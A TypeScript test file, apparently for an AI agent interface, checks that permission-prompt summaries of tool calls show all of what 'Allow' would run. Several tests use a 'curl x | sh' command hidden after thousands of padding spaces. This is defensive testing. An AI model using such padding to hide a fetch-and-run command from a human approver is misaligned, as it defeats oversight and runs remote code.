/**
 * What a permission prompt says a tool call will do: in plain words, and never hiding any part of what
 * Allow would run (a command padded with spaces before `; curl … | sh` once showed as a harmless echo).
 */
import { PROMPT_SUMMARY_MAX } from '@switchyard/protocol';
import { describe, expect, it } from 'vitest';
import { describeSuggestion, shortenInput, summarizeToolCall } from '../src/core/translate/summary.js';
import { translateLine } from '../src/core/translate/translator.js';

describe('summarizeToolCall', () => {
  it('shows the end of a command padded with 3,000 spaces', () => {
    const command = `echo hi${' '.repeat(3000)}; curl x | sh`;
    expect(summarizeToolCall('Bash', { command })).toBe('run this command: echo hi ; curl x | sh');
  });

  it('keeps the head and the tail of a command too long to show, with the count cut between them', () => {
    const command = `echo ${'x'.repeat(5000)}; curl x | sh`;
    const summary = summarizeToolCall('Bash', { command }, 'Print some x');
    expect(summary.length).toBeLessThanOrEqual(PROMPT_SUMMARY_MAX);
    expect(summary.startsWith('run this command: echo xxx')).toBe(true);
    expect(summary).toContain('; curl x | sh (described as: Print some x)');
    expect(summary).toMatch(/…\[\d+ more characters\]…/);
  });

  it('says what a file tool will do to which file, in words', () => {
    expect(summarizeToolCall('Write', { file_path: '/w/hello.md', content: 'hi' }, 'hello.md')).toBe(
      'write hello.md (/w/hello.md)',
    );
    expect(summarizeToolCall('Edit', { file_path: '/w/a.ts' })).toBe('edit a.ts (/w/a.ts)');
    expect(summarizeToolCall('WebFetch', { url: 'https://x.test/' })).toBe('fetch https://x.test/');
    expect(summarizeToolCall('mcp__db__query', { sql: 'select 1' })).toBe(
      'use mcp__db__query: {"sql":"select 1"}',
    );
  });
});

describe('cuts on whole characters', () => {
  it('shortenInput and describeSuggestion leave no half of an emoji', () => {
    const long = `a${'😀'.repeat(400)}`;
    const short = shortenInput({ text: long }).text as string;
    expect(short.endsWith('…')).toBe(true);
    expect(/[\ud800-\udbff]…$/.test(short)).toBe(false);
    const label = describeSuggestion({ type: 'addDirectories', directories: [long], destination: 'session' });
    expect(label.length).toBeLessThanOrEqual(500);
    expect(/[\ud800-\udbff]…$/.test(label)).toBe(false);
  });

  it("a tool's error text cut for the card leaves no half of an emoji", () => {
    const content = `${'a'.repeat(3999)}😀 more`;
    const line = JSON.stringify({
      type: 'user',
      message: { content: [{ type: 'tool_result', tool_use_id: 't1', is_error: true, content }] },
    });
    const [event] = translateLine(line);
    const errorText = event?.kind === 'tool_result' ? (event.errorText ?? '') : '';
    expect(errorText).toBe('a'.repeat(3999));
  });
});
